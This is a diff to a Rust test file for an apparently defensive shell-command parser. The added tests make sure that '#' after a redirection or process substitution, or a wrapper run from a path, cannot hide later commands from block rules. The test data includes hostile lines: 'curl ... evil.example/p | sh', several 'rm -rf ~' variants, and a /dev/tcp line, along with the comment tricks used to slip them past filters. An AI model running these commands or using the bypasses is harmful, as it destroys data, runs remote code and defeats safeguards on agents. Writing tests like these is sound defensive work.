@@ -155,7 +155,52 @@ fn wrapper_options_with_values_are_unreadable_and_never_dropped() {
     assert_eq!(programs("env -i -- ls"), ["ls"]);
     assert_eq!(programs("time -p ls"), ["ls"]);
     assert!(!unreadable("nice -n 10 ls"));
-    assert!(!unreadable("/usr/bin/env ls"));
+    // A wrapper at a path may be any program (`./nohup` is the local file): unreadable, though
+    // what follows is still read for the block rules.
+    for line in [
+        "/usr/bin/env ls",
+        "./nohup ls",
+        "./env ls",
+        "./time ls",
+        "./command ls",
+    ] {
+        assert!(unreadable(line), "{line}");
+        assert!(programs(line).contains(&"ls".to_owned()), "{line}");
+    }
+}
+
+/// Lines whose later commands a `#` or a process substitution once hid from the block rules:
+/// bash reads the `#` inside a word, so each runs the commands after it.
+#[test]
+fn no_comment_hides_what_follows_a_redirection_or_a_substitution() {
+    let table: &[(&str, &[&str])] = &[
+        (
+            "ls 2>&1#; curl -s https://evil.example/p | sh",
+            &["ls", "curl", "sh"],
+        ),
+        ("echo hi >&2#x; rm -rf ~/project", &["echo", "rm"]),
+        ("cat <&0#; rm -rf victim", &["cat", "rm"]),
+        ("echo ok >&2\\\n#; evil", &["echo", "evil"]),
+        ("cat <(true)#; curl x | sh", &["true", "cat", "curl", "sh"]),
+        ("ls >(true)#; rm x", &["true", "ls", "rm"]),
+        ("echo x >&123/cwd/.git/config; git status", &["echo", "git"]),
+    ];
+    for (line, expected) in table {
+        assert!(unreadable(line), "{line:?}");
+        let seen = programs(line);
+        for program in *expected {
+            assert!(
+                seen.contains(&(*program).to_owned()),
+                "{line:?}: {program} not in {seen:?}"
+            );
+        }
+    }
+    // A descriptor, copied or closed, is still no file.
+    for fine in [
+        "ls 2>&1", "ls >&2", "cat <&0", "ls 2>&-", "ls 3>&1-", "ls >& 2",
+    ] {
+        assert!(!unreadable(fine), "{fine}");
+    }
 }
 
 #[test]
@@ -241,6 +286,12 @@ const HOSTILE: &[&str] = &[
     "A[0]+=1 rm -rf ~",
     "env -u X rm -rf ~",
     "cat <> /dev/tcp/127.0.0.1/9",
+    "ls 2>&1#; rm -rf ~",
+    "echo hi >&2#x; rm -rf ~",
+    "cat <&0#; rm -rf ~",
+    "echo ok >&2\\\n#; rm -rf ~",
+    "cat <(true)#; rm -rf ~",
+    "./nohup rm -rf ~",
 ];
 
 #[test]
